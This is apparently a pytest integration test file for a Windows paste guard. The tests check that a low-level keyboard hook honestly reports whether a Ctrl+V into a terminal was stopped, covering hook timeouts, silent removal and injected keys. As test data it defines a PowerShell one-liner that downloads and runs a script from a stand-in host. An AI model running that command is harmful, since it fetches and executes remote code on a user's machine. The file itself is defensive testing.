"""The Windows keyboard hook where the parts meet: the REAL CtypesKeyboardHook on its own thread
over user32 fakes that behave as documented (tests/fakes_win32.py FakeDesktop: a key reaches a
hook only once SetWindowsHookEx has returned, Windows passes a key on when the hook takes longer
than LowLevelHooksTimeout and removes a hook that does so again and again), the REAL
Win32Backend, and the REAL guard (GuardService, PasteSequence, TargetClassifier, Engine).
"""

from __future__ import annotations

import time
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

import pytest

from app.detection import Engine
from app.drills.coordinator import DrillCoordinator
from app.events import EventKind
from app.guard.keys import PasteSequence
from app.guard.provenance import Provenance
from app.guard.service import ClipboardChange, GuardService, GuardSettings
from app.guard.targets import TargetClassifier
from app.platform.win32.api import LLKHF_INJECTED, VK_CONTROL
from app.platform.win32.backend import HOOK_START_LIMIT, Win32Backend
from app.platform.win32.keymap import WM_KEYDOWN, WM_KEYUP
from app.storage import EventStore
from tests.app.guard.test_service import FakeStore, FakeUI
from tests.fakes import FakeClock, FakeWin32Api
from tests.fakes_win32 import HOOK_TIMEOUTS_BEFORE_REMOVAL, Delivery

VK_V, VK_LCONTROL = 0x56, 0xA2
LURE = 'powershell -w h -c "iwr https://evil.test/a.ps1 | iex"'


def until(check: Callable[[], bool], timeout: float = 10.0) -> None:
    deadline = time.monotonic() + timeout
    while not check():
        assert time.monotonic() < deadline, "timed out"
        time.sleep(0.002)


@pytest.fixture(scope="module")
def engine() -> Engine:
    return Engine(strict=True)


@pytest.fixture(scope="module")
def classifier() -> TargetClassifier:
    return TargetClassifier.load(strict=True)


@dataclass
class Rig:
    api: FakeWin32Api
    backend: Win32Backend
    service: GuardService
    ui: FakeUI
    clock: FakeClock
    store: FakeStore

    def paste(self, late: int = 0, flags: int = 0, stamp: int | None = None) -> Delivery:
        """Ctrl+V into the focused terminal; what became of the V."""
        desktop = self.api.desktop
        self.api.held.add(VK_CONTROL)
        desktop.press(WM_KEYDOWN, VK_LCONTROL)
        delivery = desktop.press(WM_KEYDOWN, VK_V, flags, late, stamp)
        desktop.press(WM_KEYUP, VK_V)
        self.api.held.discard(VK_CONTROL)
        desktop.press(WM_KEYUP, VK_LCONTROL)
        self.clock.advance(3.0)  # the next press is a new paste
        return delivery


@pytest.fixture
def rig(engine: Engine, classifier: TargetClassifier) -> Iterator[Rig]:
    api, clock = FakeWin32Api(), FakeClock()
    backend = Win32Backend(api, clock=clock, own_pid=999)
    store, ui = FakeStore(), FakeUI()
    service = GuardService(
        engine, store, ui, PasteSequence(strict=True), classifier, backend.foreground_window,
        backend.can_suppress_keys, GuardSettings(mode="warn"), clock=clock,
    )  # fmt: skip
    terminal = api.add_window(
        "CASCADIA_HOSTING_WINDOW_CLASS", "Windows PowerShell", "C:\\Program Files\\wt.exe"
    )
    api.focus(terminal)
    service.clipboard_changed(ClipboardChange(LURE, Provenance(source_url="https://x.example/")))
    service.process_pending()
    assert service.current is not None and service.current.verdict.level.label == "malicious"
    yield Rig(api, backend, service, ui, clock, store)
    api.desktop.hold_setting.set()
    backend.stop()


def start(rig: Rig) -> None:
    rig.backend.start(rig.service.on_key, rig.service.on_mouse)


def test_the_guard_is_starting_until_the_hook_is_in(rig: Rig) -> None:
    """pynput (used before) said ready before SetWindowsHookEx ran: the guard reported itself
    protecting while a Ctrl+V went by unseen. Now it is starting until the hook is in."""
    rig.api.desktop.hold_setting.clear()  # the hook thread has not set the hook yet
    start(rig)
    assert rig.backend.alive() and rig.backend.starting
    missed = rig.paste()
    assert not missed.seen  # the input system handed it out with no hook: the barrier
    assert rig.ui.warnings == [] and rig.backend.starting  # ... and the guard never said ready
    rig.api.desktop.hold_setting.set()
    until(lambda: not rig.backend.starting)
    assert rig.backend.degraded == {} and rig.api.desktop.hooked
    stopped = rig.paste()
    assert stopped.swallowed
    assert [w.suppressed for w in rig.ui.warnings] == [True]


def test_a_refused_hook_is_a_degraded_keyboard_not_a_silent_one(rig: Rig) -> None:
    rig.api.desktop.refuse = True  # SetWindowsHookEx returns NULL
    start(rig)
    until(lambda: not rig.backend.alive())  # the barrier: the hook thread tried and gave up
    assert not rig.backend.starting
    assert "SetWindowsHookEx refused" in rig.backend.degraded["keyboard"]


def test_a_hook_that_is_never_set_is_degraded_after_the_limit(rig: Rig) -> None:
    rig.api.desktop.hold_setting.clear()
    start(rig)
    assert rig.backend.starting and "keyboard" not in rig.backend.degraded
    rig.clock.advance(HOOK_START_LIMIT)
    assert not rig.backend.starting
    assert "not set 5 s after start" in rig.backend.degraded["keyboard"]
    rig.api.desktop.hold_setting.set()
    until(lambda: "keyboard" not in rig.backend.degraded)
    assert rig.paste().swallowed


def test_a_key_that_reaches_the_hook_too_late_is_warned_as_not_stopped(rig: Rig) -> None:
    """The hook thread was busy: the Ctrl+V reaches the hook after Windows stopped waiting and
    passed it on. Swallowing it then does nothing, so the guard must not call it stopped; the
    hook, which Windows may have removed, is set again, and the keyboard is degraded meanwhile."""
    start(rig)
    until(lambda: not rig.backend.starting)
    timeout = rig.api.desktop.timeout
    through = rig.paste(late=timeout)
    assert through.seen and through.timed_out and not through.swallowed
    assert [w.suppressed for w in rig.ui.warnings] == [False]  # the truth: it went through
    assert rig.backend.late_keys == 1
    until(lambda: rig.api.desktop.settings == 2)  # the barrier: a new hook was asked for ...
    until(lambda: "keyboard" not in rig.backend.degraded)  # ... and is in
    assert len(rig.api.desktop.hooks) == 1  # the old one was taken out, not left in the chain
    assert rig.paste().swallowed
    assert [w.suppressed for w in rig.ui.warnings] == [False, True]


def test_a_key_just_inside_the_timeout_is_let_through_rather_than_claimed(rig: Rig) -> None:
    start(rig)
    until(lambda: not rig.backend.starting)
    through = rig.paste(late=rig.api.desktop.timeout - 10)  # our answer might come too late
    assert not through.swallowed and not through.timed_out
    assert [w.suppressed for w in rig.ui.warnings] == [False]


def test_a_hook_that_answers_too_slowly_is_set_again_before_windows_removes_it(
    rig: Rig,
) -> None:
    """A guard call that takes longer than LowLevelHooksTimeout: the key goes through though
    the guard had said stopped, so it then says it was not. Windows removes such a hook at its
    11th timeout, without a word. Each timeout makes the backend set a new hook, so a 12th
    paste is still stopped."""
    start(rig)
    until(lambda: not rig.backend.starting)
    desktop = rig.api.desktop
    foreground = rig.backend.foreground_window
    slow = {"countdown": 0}

    def slow_foreground() -> object:
        slow["countdown"] -= 1
        if slow["countdown"] == 0:
            desktop.ticks.advance(desktop.timeout)  # one slow call inside the hook: the V's
        return foreground()

    rig.service.foreground = slow_foreground  # type: ignore[assignment]
    for round_ in range(HOOK_TIMEOUTS_BEFORE_REMOVAL + 1):
        settings = desktop.settings
        desktop.hold_setting.clear()  # the new hook waits: the degraded entry can be read
        slow["countdown"] = 2  # Ctrl down, then V down
        warned = len(rig.ui.warnings)
        assert rig.paste().timed_out
        # the V went on: whatever the guard first said of it, its last word is "not stopped"
        assert len(rig.ui.warnings) > warned and not rig.ui.warnings[-1].suppressed
        until(lambda: "keyboard" in rig.backend.degraded)
        assert "may have gone through" in rig.backend.degraded["keyboard"]
        desktop.hold_setting.set()
        until(lambda settings=settings: desktop.settings > settings)  # type: ignore[misc]
        until(lambda: "keyboard" not in rig.backend.degraded)
        assert desktop.removed == 0, f"removed at round {round_}"
    assert rig.backend.late_keys == HOOK_TIMEOUTS_BEFORE_REMOVAL + 1
    rig.service.process_pending()
    kinds = {e.kind for e in rig.store.events if e.kind.startswith("paste")}
    assert kinds == {EventKind.PASTE_WARNED.value}  # none of them is recorded as stopped
    assert rig.paste().swallowed


def test_an_injected_key_with_an_old_time_stamp_is_not_taken_for_a_late_one(rig: Rig) -> None:
    """KEYBDINPUT.time is the injector's to choose: a stale stamp on an injected Ctrl+V must not
    make the guard let it through as 'too late to stop'."""
    start(rig)
    until(lambda: not rig.backend.starting)
    stale = rig.api.desktop.ticks() - 60_000
    assert rig.paste(flags=LLKHF_INJECTED, stamp=stale).swallowed
    assert rig.backend.late_keys == 0 and [w.suppressed for w in rig.ui.warnings] == [True]


def test_a_hook_removed_without_a_word_is_replaced_within_a_refresh(rig: Rig) -> None:
    """ "There is no way for the application to know whether the hook is removed": the hook
    thread sets a new hook every HOOK_REFRESH_MS, new before old, so a silently removed hook is
    blind for at most that long, and a refresh neither opens a gap nor shows a key twice."""
    start(rig)
    until(lambda: not rig.backend.starting)
    desktop = rig.api.desktop
    hook = rig.api.hook
    assert hook is not None and desktop.timers  # the refresh timer is set on the hook thread
    desktop.fire_timers()  # a refresh while all is well
    until(lambda: hook.refreshed == 1)
    assert len(desktop.hooks) == 1 and rig.paste().swallowed
    assert [w.suppressed for w in rig.ui.warnings] == [True]  # one warning: the key seen once
    desktop.remove_silently()
    assert not rig.paste().seen  # blind: the barrier is the input system's own answer
    assert len(rig.ui.warnings) == 1 and rig.backend.degraded == {}  # nothing could tell
    desktop.fire_timers()
    until(lambda: hook.refreshed == 2)
    assert rig.paste().swallowed and len(desktop.hooks) == 1
    assert [w.suppressed for w in rig.ui.warnings] == [True, True]


def test_a_drill_paste_the_hook_answered_too_late_is_not_reported_as_stopped(
    rig: Rig, engine: Engine, classifier: TargetClassifier, tmp_path: Path
) -> None:
    """A drill's Ctrl+V the hook swallowed after LowLevelHooksTimeout went on: the drill's log
    (the REAL store and coordinator) has it pasted, not stopped, and its page says so."""
    with EventStore.open(tmp_path) as store:
        drills = DrillCoordinator(store, lambda url: None)
        try:
            service = GuardService(
                engine, store, FakeUI(), PasteSequence(strict=True), classifier,
                rig.backend.foreground_window, rig.backend.can_suppress_keys,
                GuardSettings(mode="block"), clock=rig.clock, drills=drills,
            )  # fmt: skip
            drill = drills.start("fix-error")
            service.clipboard_changed(
                ClipboardChange(drill.command, Provenance(source_url=drills.url(drill)))
            )
            service.process_pending()
            assert service.current is not None and service.current.drill == drill.id
            rig.backend.start(service.on_key, service.on_mouse)
            until(lambda: not rig.backend.starting)
            desktop = rig.api.desktop
            foreground, slow = rig.backend.foreground_window, {"countdown": 2}

            def slow_foreground() -> object:  # the guard's answer to the V takes too long
                slow["countdown"] -= 1
                if slow["countdown"] == 0:
                    desktop.ticks.advance(desktop.timeout)
                return foreground()

            service.foreground = slow_foreground  # type: ignore[assignment]
            assert rig.paste().timed_out  # Windows passed the V on: the barrier
            assert rig.backend.late_keys == 1
            service.process_pending()
            page = drills.page(f"/drill/{drill.id}/result") or b""
        finally:
            drills.stop()
        kinds = [e.kind for e in reversed(store.query())]
        assert kinds == ["drill_started", "drill_copied", "drill_pasted", "drill_pasted"]
        assert store.query()[0].details["passed_on_by_os"] is True
        assert b"could not stop the paste" in page and b"Nothing was run" not in page
